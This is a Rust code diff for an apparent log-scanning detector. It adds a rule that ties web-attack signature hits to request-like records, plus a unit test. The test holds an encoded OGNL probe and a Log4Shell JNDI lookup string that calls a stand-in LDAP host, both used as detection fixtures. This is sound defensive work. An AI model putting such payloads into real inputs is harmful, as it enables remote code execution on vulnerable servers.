@@ -49,7 +49,7 @@ pub fn build(hits: &[LogHit], precise: &dyn Fn(&Locator) -> bool) -> Vec<LogReco
     // 1. Hits on the same line of the same capture are one observation.
     let mut by_line: BTreeMap<(String, Vec<String>, Option<u64>, Option<u64>), usize> = BTreeMap::new();
     let mut obs: Vec<Observation> = vec![];
-    for (i, h) in hits.iter().enumerate() {
+    for (i, h) in hits.iter().enumerate().filter(|(_, h)| in_context(h)) {
         let l = &h.locator;
         // Without a line number the offset identifies the record.
         let key =
@@ -123,6 +123,27 @@ pub fn build(hits: &[LogHit], precise: &dyn Fn(&Locator) -> bool) -> Vec<LogReco
     out
 }
 
+/// Web attack signatures (OGNL, SpEL, template injection, traversal, SQL injection...) mean
+/// something in a request only: `${#variable}` in a manual or `../../config.mak` in a
+/// Makefile is no attack. A hit of a `web.` rule needs its record to be a request (parsed
+/// as one, or carrying a request line or an encoded query).
+pub fn in_context(h: &LogHit) -> bool {
+    if !h.rule.starts_with("web.") {
+        return true;
+    }
+    if h.http.as_ref().is_some_and(|q| q.method.is_some() || q.path.is_some()) {
+        return true;
+    }
+    let e = h.excerpt.as_str();
+    ["HTTP/1.", "HTTP/2", "GET /", "POST /", "PUT /", "HEAD /", "uri=", "url=", "request="]
+        .iter()
+        .any(|m| e.contains(m))
+        || (e.contains('?') && e.contains('=') && e.contains('/'))
+        || e.as_bytes()
+            .windows(3)
+            .any(|w| w[0] == b'%' && w[1].is_ascii_hexdigit() && w[2].is_ascii_hexdigit())
+}
+
 fn close(a: Option<Timestamp>, b: Option<Timestamp>) -> bool {
     match (a, b) {
         (Some(a), Some(b)) => (a.unix_secs() - b.unix_secs()).abs() <= SAME_RECORD_SECS,
@@ -183,6 +204,18 @@ mod tests {
             iocs: vec![],
             http: None,
         }
+    }
+
+    #[test]
+    fn web_rules_need_a_request() {
+        let mut h =
+            hit("COMPAT", 1, 0, 0, "web.struts2.ognl", "use ${#variable} to get the length of a variable");
+        h.time = None;
+        assert!(!in_context(&h));
+        h.excerpt = "GET /index.action?x=%24%7B%23a%7D HTTP/1.1".into();
+        assert!(in_context(&h));
+        let j = hit("app.log", 1, 0, 0, "log4j.jndi-lookup", "user ${jndi:ldap://x/a} logged in");
+        assert!(in_context(&j), "JNDI in an application log is an attack anywhere");
     }
 
     #[test]
